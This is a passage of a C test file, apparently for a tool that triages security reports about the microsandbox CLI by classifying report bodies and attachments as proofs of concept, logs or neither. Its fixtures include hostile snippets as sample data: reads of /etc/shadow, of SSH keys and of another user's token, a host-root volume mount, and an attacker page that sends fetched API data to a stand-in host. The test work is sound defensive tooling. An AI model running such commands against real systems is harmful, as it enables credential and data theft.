	  "Bonjour,\n\nPour remplir notre questionnaire de s\u00e9curit\u00e9 interne, j'ai test\u00e9 msb 0.10.2 : "
	  "un processus dans la sandbox peut lire les fichiers de l'h\u00f4te hors du dossier partag\u00e9, "
	  "sans aucune v\u00e9rification du chemin.\n\nAlice\n", FALSE, 1 },
	/* (1393) a vendor review's questions with the output they ask about
	 * (a registry's answer) and (1381) a report held back until an NDA is
	 * signed report nothing; a vendor reviewer who shows a boundary
	 * crossed, and a report whose write-up is promised but that tells
	 * what the writer saw, stay reports */
	{ "Third-party review: signing and SBOM",
	  "Hello,\n\nWe are conducting our yearly third-party risk assessment and microsandbox is in "
	  "scope. Three fields in our supplier register are still empty. Are the npm packages "
	  "published with provenance? What I get today:\n\n$ npm view microsandbox@0.10.4 dist.attestations\n"
	  "undefined\n\nAnd do you publish an SBOM for the CLI binaries?\n\nBest,\nMarek\n", TRUE, 0 },
	{ "Before we share our finding",
	  "Dear security team,\n\nduring an internal audit our red team came across a weakness in "
	  "microsandbox. Our legal department asks that the details are shared only after a mutual NDA "
	  "is in place; the signed copy can go to legal@example.com. Our lead researcher will then "
	  "send you the full write-up.\n\nKind regards,\nIngrid Solberg\nGeneral Counsel\n", TRUE, 0 },
	{ "Vendor review: snapshots of other tenants",
	  "Hello,\n\nWhile doing our annual vendor risk review of microsandbox I ran msb 0.10.4 on "
	  "a test host, and a process in a sandbox could read another user's snapshots under "
	  "/var/lib/msb without any check:\n\n$ ls /var/lib/msb/snapshots/bob\nweb-1.img\n\n"
	  "Do you publish an SBOM as well?\n\nMarek\n", FALSE, -1 },
	{ "Env secrets readable through msb logs",
	  "Hi,\n\nI found that msb 0.10.4 writes the values of --env into a world-readable log file, so "
	  "an attacker with any local account can steal the API keys of other users. I will send you "
	  "the full write-up tomorrow once I have cleaned it up.\n\nLi\n", FALSE, 1 },
};

/* Output the writer calls expected or example output is no log, and a
 * script the writer says was never run is no PoC (#3). */
static void
test_imagined_output(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char code[] =
		"```python\nfrom microsandbox import Sandbox\nsb = Sandbox.create(image=\"alpine\")\n"
		"print(sb.read_host(\"/etc/shadow\"))\n```\n\n";
	static const char block[] =
		"```\n[+] opened the share\n[+] read /etc/shadow from the host\n"
		"root:$6$abc:19000:0:99999:7:::\n```\n\n";
	g_autofree char *expected = g_strconcat(PROSE, code, "Sample output:\n\n", block, NULL);
	g_autofree char *real = g_strconcat(PROSE, code, "Output:\n\n", block, NULL);
	g_autofree char *never = g_strconcat(PROSE, code,
					     "Note: the script has never been run against a live "
					     "instance.\n", NULL);
	g_autoptr(StAnalysis) a = analyse(rules, "Host file read", expected, NULL);
	g_autoptr(StAnalysis) b = analyse(rules, "Host file read", real, NULL);
	g_autoptr(StAnalysis) c = analyse(rules, "Host file read", never, NULL);

	g_assert_false(a->check[ST_CHECK_LOGS]);
	g_assert_true(a->check[ST_CHECK_POC]);
	g_assert_true(b->check[ST_CHECK_LOGS]);
	g_assert_false(c->check[ST_CHECK_POC]);
}

/* The writer's word that it was never tried, in another language, takes
 * the quoted source from the PoC as in English; a report that says it was
 * tried keeps it (#3). */
static void
test_denied_intl(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char code[] =
		"```rust\nlet mut ar = tar::Archive::new(reader);\nar.set_preserve_permissions(true);\n```\n\n";
	static const char *const untried[] = {
		"No lo he probado en ninguna máquina.\n",
		"Das habe ich selbst nicht getestet.\n",
		"Nisam još provjerila na stvarnom sustavu.\n",
		"Je ne l'ai pas essayé moi-même.\n",
	};
	for (gsize i = 0; i < G_N_ELEMENTS(untried); i++) {
		g_autofree char *body = g_strconcat(PROSE, code, untried[i], NULL);
		g_autoptr(StAnalysis) a = analyse(rules, "Host file read", body, NULL);
		if (a->check[ST_CHECK_POC])
			FAIL("untried case %zu still has a PoC", i);
	}
	g_autofree char *tried = g_strconcat(PROSE, code, "Ich habe es mit msb 0.9.2 ausprobiert.\n", NULL);
	g_autoptr(StAnalysis) b = analyse(rules, "Host file read", tried, NULL);
	g_assert_true(b->check[ST_CHECK_POC]);
}

static void
test_reports_nothing(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(nothing_cases); i++) {
		g_autoptr(StAnalysis) a = analyse(rules, nothing_cases[i].subject, nothing_cases[i].body, NULL);
		st_classify(rules, a->msg, NULL, a);
		gboolean flagged = st_flag_has(a->flags, "reports-nothing");
		if (flagged != nothing_cases[i].nothing)
			FAIL("reports-nothing case %zu: flagged %d", i, flagged);
		if (nothing_cases[i].description >= 0 &&
		    a->check[ST_CHECK_DESCRIPTION] != nothing_cases[i].description)
			FAIL("reports-nothing case %zu: description %d", i, a->check[ST_CHECK_DESCRIPTION]);
		if (nothing_cases[i].nothing && a->component != NULL)
			FAIL("reports-nothing case %zu: component %s", i, a->component);
		if (nothing_cases[i].description == 1 && a->component == NULL)
			FAIL("reports-nothing case %zu: lost its component", i);
	}
}

static const struct {
	Att att;
	const char *role;
} roles[] = {
	/* (issue #3) a patch is a proposed fix, though its hunks are code;
	 * one that adds a test showing the bug reproduces it */
#define PATCH_HEAD "From 1f2e3d4c Mon Sep 17 00:00:00 2001\nFrom: A <a@example.org>\n"
#define PATCH_FIX "diff --git a/src/fd.rs b/src/fd.rs\n--- a/src/fd.rs\n+++ b/src/fd.rs\n" \
	"@@ -10,3 +10,5 @@\n use std::fs;\n+use nix::fcntl::OFlag;\n+\n fn open_log(p: &Path) {\n"
	{ { "0001-close-the-log-fd-on-exec.patch", "text/x-diff",
	    PATCH_HEAD "Subject: [PATCH] close the log fd on exec\n\n---\n" PATCH_FIX }, "other" },
	{ { "fix.diff", "text/plain", PATCH_FIX }, "other" },
	{ { "netd-caps", "text/x-patch", PATCH_HEAD "Subject: [PATCH] drop caps\n\n" PATCH_FIX }, "other" },
	{ { "0001-add-failing-test-for-symlinked-log.patch", "text/x-diff",
	    PATCH_HEAD "Subject: [PATCH] add failing test for symlinked log\n\n---\n" PATCH_FIX }, "poc" },
	{ { "repro.patch", "text/x-diff",
	    "--- a/tests/cp.py\n+++ b/tests/cp.py\n@@ -1,2 +1,5 @@\n+def test_parent_entry():\n"
	    "+    assert not escaped()\n" }, "poc" },
	{ { "exploit.py", "text/x-python", "import os\nos.system('id')\n" }, "poc" },
	{ { "swap.sh", "application/x-sh", "#!/bin/sh\nmv a b\n" }, "poc" },
	{ { "Dockerfile", "application/octet-stream", "FROM alpine\nRUN id\n" }, "poc" },
	{ { "sandbox.yaml", "text/plain", "image: alpine\nvolumes: [/:/host]\n" }, "poc" },
	{ { "fh.c", "text/x-csrc", "#include <stdio.h>\nint main(void){return 0;}\n" }, "poc" },
	{ { "debug.log", "text/plain", "nothing\n" }, "log" },
	{ { "gateway-trace.txt", "text/plain", "x\n" }, "log" },
	{ { "host-capture.txt", "text/plain", "x\n" }, "log" },
	{ { "notes.txt", "text/plain", "2026-10-21T09:14:03Z a\n2026-10-21T09:14:04Z b\n2026-10-21T09:14:05Z c\n" }, "log" },
	{ { "screen.png", "image/png", "\x89PNG\r\n" }, "screenshot" },
	{ { "notes.txt", "text/plain", "Some thoughts about the design.\nNothing more.\n" }, "other" },
	{ { "report.pdf", "application/pdf", "%PDF-1.4\n" }, "other" },
	{ { "image001.png", "image/png", "\x89PNG\r\n" }, "other" },
	{ { "poc-steps.txt", "text/plain", "see below\n" }, "poc" },
	/* the attacker's page of a cross-site attack named as the PoC (1570);
	 * a page not named so is no PoC */
	{ { "ws-hijack-poc.html", "text/html", "<html><body><script>new WebSocket('wss://x')</script></body></html>\n" }, "poc" },
	{ { "clickjack_exploit.htm", "text/html", "<iframe src=\"https://x\"></iframe>\n" }, "poc" },
	{ { "scan-report.html", "text/html", "<html><body><h1>Findings</h1></body></html>\n" }, "other" },
	/* 1735: a run's output saved as out.txt is a log; a word ending in
	 * "out" is not */
	{ { "out.txt", "text/plain", "done\n" }, "log" },
	{ { "poc_out2.txt", "text/plain", "done\n" }, "log" },
	{ { "checkout.txt", "text/plain", "Some thoughts about the design.\nNothing more.\n" }, "other" },
	{ { "layout.txt", "text/plain", "Some thoughts about the design.\nNothing more.\n" }, "other" },
	/* a fuzzer's reproduction in its own format (1490): a syzkaller
	 * program, a crash input named as the reproducer; what the fuzzer
	 * wrote is a log, an unnamed binary stays other */
	{ { "repro.syz", "text/plain", "r0 = openat$vcon(0xffffffffffffff9c, &(0x7f0000000000), 0x2, 0x0)\n" }, "poc" },
	{ { "prog-4711.syz", "application/octet-stream", "mmap(&(0x7f0000000000/0x1000)=nil, 0x1000)\n" }, "poc" },
	{ { "reproducer-input.bin", "application/octet-stream", "\x01\x02\x03" }, "poc" },
	{ { "repro.log", "text/plain", "executing program\n" }, "log" },
	{ { "syz-crash-report.txt", "text/plain", "BUG: KASAN\n" }, "log" },
	{ { "firmware.bin", "application/octet-stream", "\x7f" "ELF" }, "other" },
	{ { "disk.raw", "application/octet-stream", "\0\0" }, "other" },
	{ { "steps.txt", "text/plain", "Run these:\n\n  $ msb run --name t alpine -- sh\n  $ msb exec t -- cat /etc/shadow\n" }, "poc" },
	/* round 43: a terminal session saved as text, prompted commands with
	 * their output, is a log; prompted commands alone stay a reproduction */
	{ { "run.txt", "text/plain", "PS C:\\dev\\dl-test> node .\\poc.mjs\nwritten outside hostDir: true\n"
	    "PS C:\\dev\\dl-test>\n" }, "log" },
	{ { "session.txt", "text/plain", "$ msb run --name t alpine -- cat /etc/hostname\nt\n" }, "log" },
	{ { "commands.txt", "text/plain", "$ msb run --name t alpine -- sh\n$ msb exec t -- cat /etc/shadow\n" }, "poc" },
	/* (#3) a text only named as a reproduction ("repro", "poc" in its
	 * name) that is a terminal session with the commands' output records
	 * a run: a log; steps alone, or a script so named, stay the PoC */
	{ { "mqueue-repro.txt", "text/plain", "ops@ci-runner-7:~$ msb run -d --name q1 alpine -- sleep 600\nq1\n"
	    "ops@ci-runner-7:~$ msb exec q1 -- ls /dev/mqueue\njobs-queue\n" }, "log" },
	{ { "poc_session.md", "text/markdown", "$ msb run --name t2 alpine -- cat /run/other/token\n"
	    "tok_live_8f2a\n" }, "log" },
	{ { "repro-steps.txt", "text/plain", "$ msb run -d --name q1 alpine -- sleep 600\n"
	    "$ msb exec q1 -- ls /dev/mqueue\n" }, "poc" },
	{ { "repro.sh", "application/x-sh", "$ msb run --name t2 alpine -- cat /run/other/token\n"
	    "tok_live_8f2a\n" }, "poc" },
	/* round 16: a curl -v transcript is output, though it starts with the command */
	{ { "curl-v.txt", "text/plain", "$ curl -v http://10.88.0.1:2375/version\n*   Trying 10.88.0.1:2375...\n"
	    "* Connected to 10.88.0.1 (10.88.0.1) port 2375\n> GET /version HTTP/1.1\n> Host: 10.88.0.1:2375\n"
	    "< HTTP/1.1 200 OK\n< Content-Type: application/json\n" }, "log" },
	/* 1463: a blank report template is neither log nor PoC, whatever
	 * its name; a log or a script with a placeholder or two (generic
	 * types, "<module>" in a traceback, "<redacted>") keeps its role */
	{ { "security-report-form.md", "text/markdown", "# [TITLE]\n\n| Field | Value |\n|---|---|\n"
	    "| Version | <a.b.c> |\n| Host OS | <os + arch> |\n| Severity | TBD |\n\n## Steps\n1. <first step>\n"
	    "2. <second step>\n\n## Output\nN/A\n\n## Impact\nTODO\n" }, "other" },
	{ { "repro-template.txt", "text/plain", "Reproducer: <path to script>\nCommand: <command line>\n"
	    "Expected: <what should happen>\nActual: <what happened>\n" }, "other" },
	{ { "result-trace.txt", "text/plain", "Traceback (most recent call last):\n  File \"poc.py\", line 3, in <module>\n"
	    "    main()\n  File \"poc.py\", line 2, in main\n    raise PermissionError(\"<redacted>\")\n"
	    "PermissionError: <redacted>\n" }, "log" },
	{ { "poc_types.rs", "text/plain", "use std::sync::Arc;\nfn leak(v: Vec<u8>) -> Arc<Vec<u8>> {\n"
	    "    let a: Arc<Vec<u8>> = Arc::new(v);\n    let b: Option<Arc<Vec<u8>>> = Some(a.clone());\n"
	    "    b.unwrap()\n}\n" }, "poc" },
	{ { "Pull3.html", "text/html", "<html>hi</html>" }, "other" },
	{ { "damaged.zip", "application/zip", "PK\x03\x04garbage" }, "other" },
	{ { "fix.patch", "text/x-diff", "--- a/x\n+++ b/x\n" }, "other" },
	{ { "response.json", "application/json", "{\"error\": \"forbidden\"}\n" }, "log" },
	{ { "sandbox-config.json", "application/json", "{\"image\": \"alpine\"}\n" }, "poc" },
	/* issue #3: source in more languages, and a file a mailer sent as
	 * application/octet-stream judged by its text */
	{ { "race.m", "application/octet-stream", "#import <Foundation/Foundation.h>\nint main(void) { return 0; }\n" }, "poc" },
	{ { "Probe.cs", "text/plain", "using System;\nclass P { static void Main() { } }\n" }, "poc" },
	{ { "trigger", "application/octet-stream", "#!/usr/bin/env python3\nimport socket\nsocket.socket().connect(('10.0.0.1', 80))\n" }, "poc" },
	{ { "blob.bin", "application/octet-stream", "\x01\x02\x03" "binary\xff\xfe" }, "other" },
	/* issue #3: a build or task file named the way Dockerfile and
	 * Makefile are (a word run into "file", no extension), or a text that
	 * starts as a build file does, is the reproduction; a data file
	 * named so, or a text that only mentions a base image, is not */
	{ { "Earthfile", "text/plain", "VERSION 0.8\nleak:\n    COPY ../../secrets ./s\n" }, "poc" },
	{ { "Tiltfile.ci", "application/octet-stream", "local_resource('x', 'cat ~/.ssh/id_rsa')\n" }, "poc" },
	{ { "sandbox.build", "text/plain", "# base layer\nFROM debian:12 AS base\nCOPY /etc/shadow /x\n" }, "poc" },
	{ { "Keyfile", "text/plain", "just some words\n" }, "other" },
	{ { "notes", "text/plain", "FROM the host I could read the key.\nNothing more.\n" }, "other" },
	/* issue #3: a crash or diagnostics report the system wrote is a log,
	 * by its name or by its text (a JSON event, a text sent as
	 * application/octet-stream), never the PoC; a program that forges one
	 * starts like code and stays the PoC */
	{ { "msb-2027-01-02-101010.ips", "application/octet-stream", "{\"app_name\":\"msb\"}\n{}\n" }, "log" },
	{ { "msb_2027-01-02.crash", "application/octet-stream", "Process: msb [1]\n" }, "log" },
	{ { "sentry-7731.json", "application/json", "{\"event_id\": \"9f1c\",\n \"exception\": {\"values\": "
	    "[{\"type\": \"SIGSEGV\"}]}}\n" }, "log" },
	{ { "msb-crash-0417", "application/octet-stream", "panic: runtime error: invalid memory address\n"
	    "[signal SIGSEGV: segmentation violation code=0x1 addr=0x0 pc=0x4a1b2c]\n\n"
	    "goroutine 1 [running]:\nmain.main()\n\t/src/x.go:12 +0x1d\n" }, "log" },
	{ { "info", "application/octet-stream", "           PID: 31337 (msb)\n        Signal: 11 (SEGV)\n"
	    "       Storage: /var/lib/systemd/coredump/core.msb.1000.zst (present)\n" }, "log" },
	{ { "first.yaml", "text/plain", "app: msb\npanic: \"called unwrap on None\"\nbacktrace: [frame0]\n" }, "log" },
	{ { "forge.py", "text/x-python", "import json\nprint(json.dumps({\"bug_type\": \"309\"}))\n" }, "poc" },
	/* issue #3: a scanner's or tool's result file (SARIF, a findings
	 * list, a scanner's export) is its output, a log, whatever it is
	 * called; a config or payload JSON stays the PoC, and a program that
	 * writes findings starts like code */
	{ { "pkgscan-widget-2.1.0.json", "application/json", "{\n  \"scanner\": \"acme-pkgscan\",\n"
	    "  \"findings\": [\n    {\"rule\": \"aws-key\", \"severity\": \"high\", \"file\": \"pkg/.env\"}\n  ]\n}\n" }, "log" },
	{ { "scan.sarif", "application/octet-stream", "{\"version\": \"2.1.0\"}\n" }, "log" },
	{ { "codeql-msb.json", "application/json", "{\"$schema\": \"https://json.schemastore.org/sarif-2.1.0.json\",\n"
	    " \"runs\": [{\"tool\": {\"driver\": {\"name\": \"CodeQL\"}}}]}\n" }, "log" },
	{ { "leaks.json", "application/json", "[\n {\n  \"Description\": \"AWS key\",\n  \"RuleID\": \"aws-access-token\"\n }\n]\n" }, "log" },
	{ { "deps.json", "application/json", "{\"vulnerabilities\": [{\"cve\": \"CVE-2026-0001\", \"package\": \"tar\"}]}\n" }, "log" },
	{ { "sandbox-net.json", "application/json", "{\"image\": \"alpine\", \"network\": {\"rules\": [\"allow 0.0.0.0/0\"]}}\n" }, "poc" },
	{ { "emit.py", "text/x-python", "import json\nprint(json.dumps({\"findings\": [{\"severity\": \"high\"}]}))\n" }, "poc" },
	/* issue #3: a findings export as CSV or TSV (its header row names an
	 * advisory, CVE or rule id column and a severity column) is a log,
	 * whatever it is called; a CSV without such a header, or a header
	 * with a severity column but no id, is not */
	{ { "depwatch-export-17.csv", "text/csv", "id;package;version;cve_id;Severity;fixed\n"
	    "1;tar;0.4.38;CVE-2026-1111;high;0.4.40\n" }, "log" },
	{ { "weekly.tsv", "text/tab-separated-values", "Rule ID\tSeverity\tFile\tLine\n"
	    "py/path-injection\tmedium\tsdk/fs.py\t88\n" }, "log" },
	{ { "sandboxes.csv", "text/csv", "name,owner,cpu,memory\nw1,ana,2,4096\n" }, "other" },
	{ { "tickets.csv", "text/csv", "ticket,severity,opened\nT-4,low,2029-01-03\n" }, "other" },
};

static void
test_roles(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(roles); i++) {
		Att atts[2] = { roles[i].att, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, "See the attachment.", atts);
		g_assert_cmpuint(a->msg->attachments->len, ==, 1);
		StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
		if (g_strcmp0(st_role_name(att->role), roles[i].role) != 0)
			FAIL("role case %zu (%s): got %s", i, roles[i].att.filename, st_role_name(att->role));
		gboolean poc = strcmp(roles[i].role, "poc") == 0;
		gboolean log = !poc && strcmp(roles[i].role, "other") != 0;
		g_assert_cmpint(a->check[ST_CHECK_POC], ==, poc);
		g_assert_cmpint(a->check[ST_CHECK_LOGS], ==, log);
	}
}

/* A notebook is the PoC; the outputs saved in its cells are logs too
 * ([logs.saved-output]), whatever type it is sent as; one whose cells kept
 * no output is only the PoC. */
#define NB_OUT "{\n \"cells\": [\n  {\n   \"cell_type\": \"code\",\n   \"outputs\": [\n    {\n" \
	"     \"name\": \"stdout\",\n     \"output_type\": \"stream\",\n     \"text\": [\"uid=0(root)\\n\"]\n" \
	"    }\n   ],\n   \"source\": [\"!id\"]\n  }\n ]\n}\n"
#define NB_NONE "{\n \"cells\": [\n  {\n   \"cell_type\": \"code\",\n   \"outputs\": [],\n" \
	"   \"source\": [\"!id\"]\n  },\n  {\n   \"cell_type\": \"markdown\",\n" \
	"   \"source\": [\"output_type stream\"]\n  }\n ]\n}\n"

static const struct {
	Att att;
	gboolean logs;
} saved_outputs[] = {
	{ { "poc.ipynb", "application/x-ipynb+json", NB_OUT }, TRUE },
	{ { "poc.ipynb", "application/octet-stream", NB_OUT }, TRUE },
	{ { "poc.ipynb", "application/json", NB_OUT }, TRUE },
	{ { "poc.ipynb", "application/x-ipynb+json", NB_NONE }, FALSE },
	/* binary content (a NUL byte) is not read as text */
#define NB_BIN "\x89PNG\r\n\x00\x01\"outputs\": [{\"output_type\": \"stream\""
	{ { "poc.ipynb", "application/octet-stream", NB_BIN, sizeof NB_BIN - 1 }, FALSE },
};

static void
test_saved_output(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(saved_outputs); i++) {
		Att atts[2] = { saved_outputs[i].att, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, "The notebook is attached.", atts);
		g_assert_cmpuint(a->msg->attachments->len, ==, 1);
		if (a->check[ST_CHECK_LOGS] != saved_outputs[i].logs)
			FAIL("saved-output case %zu (%s): logs %d", i, saved_outputs[i].att.type,
			     a->check[ST_CHECK_LOGS]);
	}
}

/* A script the reporter says does not work is what was tried, not a
 * reproduction; the same words about the bug next to the working one do not
 * demote it, nor does the end of another list item. */
static void
test_roles_not_working(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const struct {
		const char *body;
		const char *want[2];
	} cases[] = {
		{ "Two PoCs:\n\n1. first.sh: my first attempt. This one does\n   NOT work, kept for reference.\n"
		  "2. second.c: the working one.\n", { "other", "poc" } },
		{ "1. first.sh: the working one.\n2. second.c: an older try; it did not work.\n",
		  { "poc", "other" } },
		{ "first.sh shows that the egress filter does not work at all.\n"
		  "second.c is the same in C.\n", { "poc", "poc" } },
		{ "Zwei Skripte: first.sh, dieses Skript funktioniert nicht.\n\nsecond.c geht.\n",
		  { "other", "poc" } },
	};

	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
		Att atts[3] = { { "first.sh", "application/x-sh", "#!/bin/sh\nid\n" },
				{ "second.c", "text/x-csrc", "#include <stdio.h>\nint main(void){return 0;}\n" },
				{ NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, cases[i].body, atts);
		g_assert_cmpuint(a->msg->attachments->len, ==, 2);
		for (guint k = 0; k < 2; k++) {
			StAttachment *att = g_ptr_array_index(a->msg->attachments, k);
			if (g_strcmp0(st_role_name(att->role), cases[i].want[k]) != 0)
				FAIL("not-working case %zu %s: got %s", i, att->filename,
				     st_role_name(att->role));
		}
		g_assert_true(a->check[ST_CHECK_POC]);
	}
}

/* st_x_count_lines counts what matching each piece of g_strsplit (TEXT,
 * "\n", MAX) alone counts: with patterns that match across a line end,
 * match the empty line, look behind or ahead past a line end (always
 * matched line by line) or only inside the line (matched over the whole
 * text), have a named group or set options, and with MAX
 * cutting the text anywhere (the last piece is the rest, whole). */
static void
test_count_lines(void)
{
	g_autoptr(StRules) rules = tu_rules_text(
		"[g]\n"
		"match.cross = a\\s+b\n"
		"match.empty = ^$\n"
		"match.anchor = ^\\s*\\d+:\n"
		"match.behind = (?<=x)y\n"
		"match.end = z\\s*$\n"
		"[h]\n"
		"match = ^\\s*\\[\\d+\\]\n"
		"[e]\n"
		"match = ^\\s*$\n"
		"match.tail = (?:ok|x)$\n"
		"[l]\n"
		"match.digit = ^\\s*\\d(?=\\s)\n"
		"match.later = x(?=[^\\n]*y)\n"
		"match.next = a(?=\\s+b)\n"
		"[k]\n"
		"match.word = (?<![\\w.-])v\\d(?![\\w-])\n"
		"match.blank = q(?=[ \\t]*$)\n"
		"match.last = y(?!\\S)\n"
		"match.first = (?<!\\S)z\n"
		"match.line = ^(?=[^\\n]*:)\\s*\\d\n"
		"[n]\n"
		"match.named = ^\\s*(?<cmd>\\[\\d)\\s*$\n"
		"match.option = (?i:ok)$\n");
	static const char *const pieces[] = {
		"a", "b", "a b", "", " ", "12:", "  3: x", "xy", "y", "z ", "[1] ok", "q", "\t", "x",
		"4", "5 ", "a ", "x y", "v1", "v1-", ".v2", "q ", "q", " z", "3 :",
	};
	static const guint maxes[] = { 0, 1, 2, 3, 4, 7, 2000 };
	GRand *rand = g_rand_new_with_seed(9);

	for (guint round = 0; round < 400; round++) {
		g_autoptr(GString) text = g_string_new(NULL);
		guint n = g_rand_int_range(rand, 0, 12);
		for (guint i = 0; i < n; i++) {
			g_string_append(text, pieces[g_rand_int_range(rand, 0, G_N_ELEMENTS(pieces))]);
			if (g_rand_boolean(rand) || i + 1 < n)
				g_string_append_c(text, '\n');
		}
		for (gsize m = 0; m < G_N_ELEMENTS(maxes); m++) {
			for (const char *const *gn = (const char *const[]){ "g", "h", "e", "l", "k", "n", NULL }; *gn; gn++) {
				const StRuleGroup *g = st_rules_group(rules, *gn);
				g_autoptr(StScan) scan = st_scan_new(rules, text->str, -1);
				guint want = 0;
				g_auto(GStrv) lines = g_strsplit(text->str, "\n", maxes[m]);
				for (char **l = lines; *l; l++)
					want += st_x_any_in(g, scan, *l);
				guint got = st_x_count_lines(g, scan, text->str, maxes[m]);
				if (got != want)
					FAIL("[%s] max %u over \"%s\": want %u, got %u", *gn, maxes[m],
					     text->str, want, got);
				/* and line by line, when every line was matched alone */
				g_autofree guint8 *hits = NULL;
				guint nh = 0, nl = g_strv_length(lines);
				g_assert_cmpuint(st_x_count_lines_hits(g, scan, text->str, maxes[m], &hits, &nh),
						 ==, want);
				g_assert_true(hits != NULL || maxes[m] == 1 || *text->str == '\0' ||
					      (maxes[m] != 0 && maxes[m] <= nl));
				for (guint k = 0; hits && k < nh; k++) {
					g_assert_cmpuint(nh, ==, nl);
					if (hits[k] != st_x_any_in(g, scan, lines[k]))
						FAIL("[%s] \"%s\" line %u: hit %u", *gn, text->str, k,
						     hits[k]);
				}
			}
		}
	}
	g_rand_free(rand);
}

/* A tar.gz in memory with MEMBERS (NULL-terminated), written by libarchive. */
static GBytes *
make_targz(const char *const *members)
{
	struct archive *w = archive_write_new();
	gsize cap = 1 << 16, used = 0;
	char *buf = g_malloc0(cap);

	archive_write_add_filter_gzip(w);
	archive_write_set_format_pax_restricted(w);
	g_assert_cmpint(archive_write_open_memory(w, buf, cap, &used), ==, ARCHIVE_OK);
	for (const char *const *m = members; *m; m++) {
		struct archive_entry *e = archive_entry_new();
		archive_entry_set_pathname(e, *m);
		archive_entry_set_size(e, 3);
		archive_entry_set_filetype(e, AE_IFREG);
		archive_entry_set_perm(e, 0644);
		archive_write_header(w, e);
		archive_write_data(w, "hi\n", 3);
		archive_entry_free(e);
	}
	archive_write_close(w);
	archive_write_free(w);
	return g_bytes_new_take(buf, used);
}

static void
test_archive_roles(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char *const scripts[] = { "repro/README.md", "repro/01-setup.sh", "repro/02-scan.sh", NULL };
	static const char *const logs[] = { "logs/host.log", "logs/guest.log", NULL };
	static const char *const *const sets[] = { scripts, logs };
	static const char *const want[] = { "poc", "log" };

	for (int i = 0; i < 2; i++) {
		g_autoptr(GBytes) tgz = make_targz(sets[i]);
		gsize len;
		const char *data = g_bytes_get_data(tgz, &len);
		Att atts[2] = { { "repro.tar.gz", "application/gzip", data, len }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, "Archive attached.", atts);
		StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
		g_assert_nonnull(att->members);
		g_assert_cmpstr(st_role_name(att->role), ==, want[i]);
	}
}

/* A bundle of a script and the output of its run (1735: README, run.sh,
 * out.txt) shows logs: a member named as a log or a screenshot; one of
 * scripts and notes, or a member whose name only ends in "out", none. */
static void
test_archive_logs(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char *const bundle[] = { "b/README.md", "b/go.sh", "b/out.txt", NULL };
	static const char *const run_log[] = { "case/trigger.py", "case/first-run.log", NULL };
	static const char *const shot[] = { "x/poc.js", "x/terminal.png", NULL };
	static const char *const notes[] = { "r/NOTES.md", "r/exploit.sh", "r/checkout.txt", NULL };
	static const char *const code[] = { "s/main.rs", "s/layout.txt", "s/Cargo.toml", NULL };
	static const char *const *const sets[] = { bundle, run_log, shot, notes, code };
	static const gboolean want[] = { TRUE, TRUE, TRUE, FALSE, FALSE };

	for (gsize i = 0; i < G_N_ELEMENTS(sets); i++) {
		g_autoptr(GBytes) tgz = make_targz(sets[i]);
		gsize len;
		const char *data = g_bytes_get_data(tgz, &len);
		Att atts[2] = { { "case.tar.gz", "application/x-compressed-tar", data, len },
				{ NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, NULL, "All in the tarball.", atts);
		StAttachment *att = g_ptr_array_index(a->msg->attachments, 0);
		g_assert_nonnull(att->members);
		if (a->check[ST_CHECK_LOGS] != want[i])
			FAIL("archive-logs case %zu: logs %d", i, a->check[ST_CHECK_LOGS]);
		g_assert_true(a->check[ST_CHECK_POC]);
	}
}

/* A write-up exported as a web page (1734: a pentest firm's report tool)
 * is read as it renders, like a .md write-up: its curl steps are the PoC,
 * the responses under them the logs.  A page of prose with no steps shows
 * neither, and the attacker's page named as the exploit stays the PoC. */
#define HTML_HEAD "<!DOCTYPE html>\n<html><head><style>p { margin: 0 }</style></head><body>\n"
static void
test_html_writeup(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const char report[] = HTML_HEAD
		"<h1>R-7 &ndash; Snapshot listing ignores the project</h1>\n"
		"<h2>Summary</h2>\n<p>The snapshot listing endpoint returns the snapshots of every project in the region.</p>\n"
		"<p>It only checks that the token is valid and never compares the project of the snapshot.</p>\n"
		"<h2>Impact</h2>\n<p>Any customer can read the names and sizes of snapshots that belong to other customers.</p>\n"
		"<p>Snapshot names often carry customer and branch names, which we consider confidential.</p>\n"
		"<h2>Steps to reproduce</h2>\n<ol><li>With a token of project B, list the snapshots of project A:\n"
		"<pre>curl -s -i https://api.cloud.example/v1/projects/p-A/snapshots \\\n"
		"  -H &quot;Authorization: Bearer tok_B_0000&quot;</pre>\nResponse:\n"
		"<pre>HTTP/1.1 200 OK\ncontent-type: application/json\n\n[{&quot;id&quot;:&quot;s-91&quot;}]</pre></li></ol>\n"
		"<p>We stopped after this request and did not open any of the snapshots themselves.</p>\n"
		"<p>Please tell us when a fix is deployed so that we can verify it for our client.</p>\n"
		"</body></html>\n";
	static const char newsletter[] = HTML_HEAD
		"<h1>Autumn update from our security team</h1>\n"
		"<p>This quarter we welcomed three new consultants to the team in the northern office.</p>\n"
		"<p>Our training calendar for the next months is now open for registrations from customers.</p>\n"
		"<p>We also moved our reporting portal to a new address, and the old one redirects there.</p>\n"
		"<p>As always, feel free to reach out to your account manager with any questions at all.</p>\n"
		"<p>The next webinar covers cloud tenancy models and how they are usually tested by us.</p>\n"
		"<p>Thank you for working with us this year, and we look forward to the next one together.</p>\n"
		"</body></html>\n";
	static const char page[] = "<html><body><script>fetch('https://api.cloud.example/v1/me')"
		".then(r => r.text()).then(t => navigator.sendBeacon('https://x.example', t))</script></body></html>\n";
	static const struct {
		Att att;
		const char *role;
		gboolean poc, logs;
	} cases[] = {
